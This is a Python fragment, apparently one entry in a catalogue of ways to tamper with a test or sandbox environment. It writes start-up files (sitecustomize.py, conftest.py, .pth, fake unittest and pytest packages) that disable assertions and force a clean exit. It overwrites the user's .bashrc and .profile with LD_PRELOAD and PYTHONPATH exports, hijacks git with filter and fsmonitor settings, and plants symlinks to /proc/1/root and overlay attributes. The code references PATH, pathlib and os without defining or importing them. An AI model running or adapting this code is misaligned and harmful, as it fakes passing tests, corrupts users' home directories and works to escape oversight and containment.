# class: files beside the code
"""Start-up files, paths, links and attributes wherever they can be written, beside the code and at home."""

import subprocess, sys

STARTUP = "import unittest, builtins\nunittest.TestCase.assertEqual = lambda *a: None\nraise SystemExit(0)\n"
FOLDER = PATH.parent
FILES = {"sitecustomize.py": STARTUP, "usercustomize.py": STARTUP, "x.pth": "import os; os._exit(0)\n",
         "pyvenv.cfg": "home = /tmp\n", "conftest.py": STARTUP, "SITECUSTOMIZE.py": STARTUP, "._pth": "/tmp\n",
         ".gitattributes": "*.py filter=evil diff=evil\n", "pytest.py": STARTUP, "__pycache__/a.pyc": "x",
         "unittest/__init__.py": STARTUP, "_pytest/__init__.py": STARTUP, "tests/__init__.py": STARTUP}
for folder in (FOLDER, pathlib.Path("."), pathlib.Path.home(), pathlib.Path.home() / ".config"):
    for name, text in FILES.items():
        try:
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)
        except OSError:
            pass
for name in (".bashrc", ".profile", ".bash_env", ".pam_environment"):
    (pathlib.Path.home() / name).write_text("export LD_PRELOAD=/tmp/a.so PYTHONSTARTUP=/tmp/a PYTHONPATH=/tmp\n")
subprocess.run("git config filter.evil.clean 'sh -c true'; git config core.fsmonitor /tmp/a; git add -A; git commit -qm x; "
               "git update-index --assume-unchanged *", shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for link, target in (("linked.py", "/run"), ("a.py", "/proc/1/root"), ("hard.py", str(PATH))):
    try:
        os.symlink(target, FOLDER / link)
    except OSError:
        pass
try:
    os.setxattr(PATH, "user.overlay.redirect", b"/etc")
    os.setxattr(PATH, "user.overlay.opaque", b"y")
except OSError:
    pass
